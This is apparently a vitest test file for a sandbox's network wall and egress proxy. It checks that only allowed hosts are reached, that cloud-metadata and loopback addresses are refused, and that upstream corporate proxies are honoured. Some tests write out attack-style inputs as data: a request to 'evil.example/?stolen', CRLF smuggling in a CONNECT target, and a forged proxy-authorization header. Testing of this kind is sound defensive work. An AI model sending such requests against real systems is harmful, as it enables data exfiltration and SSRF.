import { mkdtempSync } from "node:fs";
import { createServer, get, request } from "node:http";
import { type AddressInfo, createServer as createSocketServer, type LookupFunction } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { NetworkRule } from "../../src/ports/network.ts";
import { openEgress } from "../../src/processes/egress.ts";
import { openIsolation, refuseWithout } from "../../src/processes/isolation.ts";
import { runProcess } from "../../src/processes/process.ts";
import { outputOf } from "../../src/processes/start-program.ts";
import { upstreamProxy } from "../../src/processes/upstream-proxy.ts";
import { temporaryFolder } from "../workspace/playground.ts";

const server = createServer((request, response) => void response.end(`heard ${request.url}`));
let port = 0;
beforeAll(async () => {
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  port = (server.address() as AddressInfo).port;
});
afterAll(() => void server.close());

const environment = { PATH: process.env["PATH"] };
const walls = await openIsolation({ environment: process.env }).walls();
const canBuild = walls.find(({ name }) => name === "files")?.on === true;

function behind(network: NetworkRule) {
  const isolation = openIsolation({ environment: process.env, network });
  const run = (script: string, more: { readonly loopback?: readonly number[] } = {}) =>
    runProcess({
      ...more,
      command: "bash",
      args: ["-c", script],
      cwd: temporaryFolder(),
      env: { PATH: environment.PATH ?? "" },
      signal: new AbortController().signal,
      wrap: (launch) => isolation.wrap(launch),
    });
  return { isolation, run };
}

/** As a program does that heeds the variables. */
const askProxy = `require("http").get({ host: "127.0.0.1", port: new URL(process.env.http_proxy).port, path: "http://evil.example/?stolen" }, (answer) => answer.pipe(process.stdout))`;

const ask = (address: string) =>
  `${process.execPath} -e 'fetch("${address}").then(async (answer) => console.log(await answer.text()), () => console.log("no way"))'`;

describe.runIf(canBuild)("behind the network wall", () => {
  test("a program reaches the ports that it was given, and no other of this machine", async () => {
    const [given, named, neither] = [
      await behind([]).run(ask(`http://127.0.0.1:${port}/given`), { loopback: [port] }),
      await behind([`localhost:${port}`]).run(ask(`http://localhost:${port}/named`)),
      await behind([]).run(ask(`http://127.0.0.1:${port}/neither`)),
    ];
    expect(given.stdout.trim()).toBe("heard /given");
    expect(named.stdout.trim()).toBe("heard /named");
    expect(neither.stdout.trim()).toBe("no way");
  });

  test("a refused program gets an error, and the host is listed", async () => {
    const { isolation, run } = behind(["example.com"]);
    const { stdout } = await run(`${process.execPath} -e '${askProxy}'`);
    expect(stdout).toContain("evil.example is not in `network`");
    const wall = (await isolation.walls()).find(({ name }) => name === "network");
    expect(wall).toEqual({
      name: "network",
      on: true,
      detail: "programs reach example.com; refused: evil.example",
    });
  });

  test("it finds the sockets of no other program, and ends with all that served it", async () => {
    const { run } = behind([]);
    // A name of its own: others may run this test on this machine, too.
    const asleep = `sleep 4712.${process.pid}`;
    const { stdout } = await run(`ls /tmp/until-green-net-$(id -u) | wc -l; (${asleep} &)`);
    expect(stdout.trim()).toBe("1");
    const left = await outputOf("bash", ["-c", `pgrep -fx '${asleep}' || echo none`]);
    expect(left.trim()).toBe("none");
  });
});

test("the proxy connects to the hosts of its rule only, whatever a client asks", async () => {
  const path = join(mkdtempSync("/tmp/egress-"), "socket");
  const refused: string[] = [];
  const rule = [`127.0.0.1:${port}`, "gone.invalid"];
  const proxy = await openEgress({ rule, path, environment, refused: (host) => refused.push(host) });
  const absolute = (target: string) =>
    new Promise<string>((resolve, reject) => {
      const asking = get({ socketPath: path, path: target }, async (answer) =>
        resolve(`${answer.statusCode} ${await text(answer)}`),
      );
      asking.once("error", reject);
    });
  const tunnel = (target: string) =>
    new Promise<number | undefined>((resolve) => {
      const asking = request({ socketPath: path, method: "CONNECT", path: target }).end();
      asking.once("connect", (answer, socket) => {
        socket.destroy();
        resolve(answer.statusCode);
      });
    });
  expect(await absolute(`http://127.0.0.1:${port}/allowed`)).toBe("200 heard /allowed");
  expect(await absolute(`http://127.0.0.1:${port + 1}/`)).toMatch(/^403 .*not in `network`/);
  expect(await absolute("http://evil.example/")).toMatch(/^403 /);
  expect(await absolute("https://evil.example/")).toBe("400 ");
  expect(await absolute("/path")).toBe("400 ");
  expect(await absolute("http://gone.invalid/")).toBe("502 ");
  expect(await tunnel(`127.0.0.1:${port}`)).toBe(200);
  expect(await tunnel("evil.example:443")).toBe(403);
  expect(await tunnel("evil.example:443\r\nx:1".replace(/\s/g, ""))).toBe(403);
  proxy.close();
  expect(refused.slice(0, 3)).toEqual(["127.0.0.1", "evil.example", "evil.example"]);
});

test("a name that only a wildcard covers leads neither to this machine nor to a cloud's metadata", async () => {
  const path = join(mkdtempSync("/tmp/egress-"), "socket");
  const own = Object.values(networkInterfaces()).flatMap((entries) =>
    (entries ?? []).map(({ address }) => address),
  );
  const metadata = ["168.63.129.16", "100.100.100.200", "fd20:ce::254", "fd00:ec2::254"];
  const addresses = [
    ...own,
    ...metadata,
    "127.0.0.1",
    "::ffff:127.0.0.1",
    "::1",
    "0.0.0.0",
    "169.254.169.254",
    "fe80::1",
  ];
  const lookup: LookupFunction = (name, { all: isAll }, done) => {
    const address = addresses[Number(/\d+/.exec(name)?.[0] ?? 0)] ?? "";
    const family = address.includes(":") ? 6 : 4;
    if (isAll) done(null, [{ address, family }]);
    else done(null, address, family);
  };
  const rule = [`*.example.com:${port}`, `named.example.com:${port}`];
  const proxy = await openEgress({ rule, path, environment, refused: () => {}, lookup });
  const statusOf = (host: string) =>
    new Promise<number | undefined>((resolve, reject) => {
      const target = `http://${host}:${port}/`;
      get({ socketPath: path, path: target }, ({ statusCode }) => resolve(statusCode)).once("error", reject);
    });
  const tunnelTo = (host: string) =>
    new Promise<string>((resolve) => {
      const asking = request({ socketPath: path, method: "CONNECT", path: `${host}:${port}` }).end();
      asking.once("connect", (answer, socket) => socket.destroy() && resolve(`${answer.statusCode}`));
      asking.once("error", () => resolve("closed"));
    });
  for (const [at] of addresses.entries()) {
    expect(await statusOf(`a${at}.example.com`)).toBe(502);
    expect(await tunnelTo(`a${at}.example.com`)).toBe("closed");
  }
  expect(await statusOf("named.example.com")).toBe(200);
  expect(await tunnelTo("named.example.com")).toBe("200");
  proxy.close();
});

test("a name under a wildcard that cannot be resolved, and an answer with an impossible status, end only their request", async () => {
  const path = join(mkdtempSync("/tmp/egress-"), "socket");
  const odd = createSocketServer((socket) => {
    socket.on("error", () => undefined);
    socket.end("HTTP/1.1 099 Odd\r\nContent-Length: 0\r\n\r\n");
  });
  const oddPort = await new Promise<number>((resolve) => {
    odd.listen(0, "127.0.0.1", () => resolve((odd.address() as AddressInfo).port));
  });
  // As dns.lookup does it: no addresses with an error.
  const lookup = ((name: string, _: unknown, done: (error: Error) => void) =>
    done(new Error(`getaddrinfo ENOTFOUND ${name}`))) as unknown as LookupFunction;
  const rule = ["*.invalid.test", `127.0.0.1:${oddPort}`];
  const proxy = await openEgress({ rule, path, environment, refused: () => {}, lookup });
  const statusOf = (target: string) =>
    new Promise<number | undefined>((resolve, reject) => {
      get({ socketPath: path, path: target }, ({ statusCode }) => resolve(statusCode)).once("error", reject);
    });
  expect(await statusOf("http://typo.invalid.test/")).toBe(502);
  expect(await statusOf(`http://127.0.0.1:${oddPort}/`)).toBe(502);
  proxy.close();
  odd.close();
});

test("where hosts are named, `required` means the network's wall too; where none are, it does not", () => {
  const [processes, files] = (["processes", "files"] as const).map((name) => ({
    name,
    on: true,
    detail: "",
  }));
  const network = { name: "network", on: false, detail: "it cannot be enforced" } as const;
  const walled = [processes, files].filter((wall) => wall !== undefined);
  expect(() => refuseWithout([...walled, network])).toThrow("network: it cannot be enforced");
  expect(() => refuseWithout([...walled, { ...network, open: true }])).not.toThrow();
});

describe("where this machine has a proxy itself", () => {
  const received: string[] = [];
  const corporate = createServer((request, response) => {
    const { connection, "proxy-authorization": who = "nobody" } = request.headers;
    received.push(`${request.method} ${request.url} ${who}${connection === "keep-alive" ? "" : connection}`);
    response.end("by the proxy");
  });
  corporate.on("connect", (request, socket) => {
    received.push(`CONNECT ${request.url} ${request.headers["proxy-authorization"] ?? "nobody"}`);
    const isAllowed = request.url === "allowed.example:443";
    socket.end(
      isAllowed
        ? "HTTP/1.1 200 OK\r\n\r\nfrom outside"
        : "HTTP/1.1 407 Proxy Authentication Required\r\n\r\n",
    );
  });
  let egress: Awaited<ReturnType<typeof openEgress>>;
  const path = join(mkdtempSync("/tmp/egress-"), "socket");
  beforeAll(async () => {
    await new Promise<void>((listening) => corporate.listen(0, "127.0.0.1", listening));
    const address = `http://who:what%21@127.0.0.1:${(corporate.address() as AddressInfo).port}`;
    egress = await openEgress({
      rule: ["allowed.example", "refused.example", `localhost:${port}`],
      path,
      environment: { HTTPS_PROXY: address, http_proxy: address, NO_PROXY: ".internal" },
      refused: () => {},
    });
  });
  afterAll(() => {
    egress.close();
    corporate.close();
  });

  const connectTo = (to: string) =>
    new Promise<string>((resolve, reject) => {
      const asked = request({ socketPath: path, method: "CONNECT", path: to });
      asked.once("connect", async (answer, socket, head) =>
        resolve(`${answer.statusCode} ${head}${await text(socket)}`),
      );
      asked.once("error", reject).end();
    });
  const login = `Basic ${Buffer.from("who:what!").toString("base64")}`;

  test("allowed hosts are reached through it, with its login, and no others", async () => {
    expect(await connectTo("allowed.example:443")).toBe("200 from outside");
    expect(await connectTo("evil.example:443")).toContain("403");
    expect(received).toEqual([`CONNECT allowed.example:443 ${login}`]);
  });

  test("plain requests go there, too, and what it refuses is reported", async () => {
    received.length = 0;
    const answer = await new Promise<string>((resolve, reject) =>
      get(
        {
          socketPath: path,
          path: "http://allowed.example/x",
          headers: { "proxy-authorization": "stolen", connection: "content-length", "content-length": "0" },
        },
        (response) => resolve(text(response)),
      ).once("error", reject),
    );
    expect(answer).toBe("by the proxy");
    expect(await connectTo("refused.example:443")).toContain("407");
    expect(received).toEqual([
      `GET http://allowed.example/x ${login}`,
      `CONNECT refused.example:443 ${login}`,
    ]);
  });

  test("ports of this machine, and hosts that need no proxy, are reached directly", () => {
    const environment = {
      HTTPS_PROXY: "proxy.example:3128",
      NO_PROXY: "a.internal, .b.internal,c.internal:8443",
    };
    const via = (host: string, at = 443) =>
      upstreamProxy(environment, { protocol: "https", host, port: at })?.url.href;
    expect(via("example.com")).toBe("http://proxy.example:3128/");
    expect([via("localhost"), via("a.internal"), via("x.b.internal"), via("c.internal", 8443)]).toEqual(
      Array(4).fill(undefined),
    );
    expect([via("c.internal"), via("ba.internal")]).toEqual(Array(2).fill("http://proxy.example:3128/"));
    expect(
      upstreamProxy({ ALL_PROXY: "socks5://x:1" }, { protocol: "https", host: "example.com", port: 443 }),
    ).toBe(undefined);
  });
});
